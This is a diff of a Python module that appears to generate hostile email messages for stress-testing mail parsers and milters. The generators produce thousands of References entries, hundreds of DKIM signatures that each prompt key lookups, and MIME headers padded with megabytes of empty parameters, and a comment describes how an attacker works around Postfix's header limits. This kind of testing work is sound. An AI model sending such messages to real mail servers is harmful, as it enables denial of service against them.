@@ -140,14 +140,13 @@ def many_references(token, count=5000):
     return (b"In-Reply-To: " + ids[-1] + b"\r\nReferences: " + b"\r\n ".join(ids) + b"\r\n")
 
 
-def dkim_signature(domain, selector="sel1", pad=0):
+def dkim_signature(domain, selector="sel1"):
     """A syntactically valid DKIM-Signature field (its b= will not verify: the point is the key
-    query for selector._domainkey.domain). pad lengthens the value with a z= tag."""
-    z = ("; z=" + "x" * pad) if pad else ""
+    query for selector._domainkey.domain)."""
     return ("DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=%s;\r\n"
-            "\th=from:to:subject:date:message-id; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=%s;\r\n"
+            "\th=from:to:subject:date:message-id; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;\r\n"
             "\tb=dGhpcyBpcyBub3QgYSByZWFsIHNpZ25hdHVyZSBidXQgaXQgcGFyc2VzIGFzIG9uZSBhbnl3YXku\r\n"
-            % (domain, selector, z)).encode()
+            % (domain, selector)).encode()
 
 
 def many_signatures(count=500):
@@ -168,13 +167,13 @@ def multipart(parts, boundary="hostile-b1"):
     return hdr, body + b"--" + boundary.encode() + b"--\r\n"
 
 
-def huge_parameters(megabytes=3.0, part_kb=56):
+def huge_parameters(megabytes=3.0, field_kb=60):
     """MIME parts whose Content-Type and Content-Disposition are runs of ';' (empty parameters,
-    folded lines of 76) for the RFC 2045/2231 parameter parser, megabytes in all. Each part header
-    stays under part_kb KB: with a milter attached Postfix cuts longer header fields, MIME part
-    headers included, at about 64 KB, so through Postfix the attacker's lever is the number of parts."""
+    folded lines of 76) for the RFC 2045/2231 parameter parser, megabytes in all. Each field stays
+    under field_kb KB: with a milter attached Postfix cuts longer header fields, MIME part headers
+    included, at about 64 KB, so through Postfix the attacker's lever is the number of parts."""
     run = b" " + b";" * 76 + b"\r\n"
-    lines = int(part_kb * 1000 / len(run) / 2)
+    lines = int(field_kb * 1000 / len(run))
     part = (b"Content-Type: application/octet-stream; name=\"a.bin\"\r\n" + run * lines +
             b"Content-Disposition: attachment; filename=\"a.bin\"\r\n" + run * lines +
             b"Content-Transfer-Encoding: base64\r\n\r\nAAAA")
